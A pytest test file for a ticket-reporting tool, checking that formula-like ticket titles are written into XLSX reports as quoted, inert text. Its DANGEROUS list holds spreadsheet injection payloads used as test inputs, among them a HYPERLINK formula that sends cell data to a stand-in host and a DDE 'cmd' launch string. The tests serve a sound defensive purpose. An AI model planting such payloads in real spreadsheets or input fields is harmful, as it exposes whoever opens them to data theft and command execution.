"""Report spreadsheets are data: a ticket title that looks like a formula is written as inert text (issue 12, finding 6)."""

from __future__ import annotations

import io
from datetime import UTC, datetime
from typing import Any

import pytest
from openpyxl import load_workbook

from reporting import reports
from reporting.render import xlsx

NOW = datetime(2026, 12, 1, 2, 0, tzinfo=UTC)
DANGEROUS = ["=HYPERLINK(\"http://x.test/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def cells(data: bytes) -> list[Any]:
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def ticket(title: str, **extra: Any) -> dict[str, Any]:
    return {"_id": "t-1", "number": "INC-2026-000009", "title": title, "department": extra.get("department", "財務科"),
            "priority": "P1", "service_code": "RS-REPAIR", "escalations": 2, "reported_at": NOW}


@pytest.mark.parametrize("title", DANGEROUS)
def test_major_incident_xlsx_writes_a_formula_like_title_as_text(title: str) -> None:
    report = reports.major_incident(ticket(title), lang="zh-CN", generated_at=NOW)

    written = cells(xlsx.render(report))

    values = [c.value for c in written]
    assert all(c.data_type != "f" for c in written)
    # XML reads a carriage return back as a line feed; what matters is the quote in front.
    assert ("'" + title).replace("\r", "\n") in values
    assert title.replace("\r", "\n") not in values


def test_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
    report = reports.major_incident(ticket("Printer jams"), lang="en", generated_at=NOW)
    report["sections"].append({"title": "numbers", "columns": ["-delta", "value"], "rows": [["-5", -5], ["x", 2.5]]})

    data = xlsx.render(report)

    values = [c.value for c in cells(data)]
    assert "Printer jams" in values and "'Printer jams" not in values
    numbers = load_workbook(io.BytesIO(data))["numbers"]
    assert numbers["A1"].value == "'-delta"  # a header is text like any other
    assert (numbers["A2"].value, numbers["B2"].value, numbers["B2"].data_type) == ("-5", -5, "n")
    assert numbers["B3"].value == 2.5
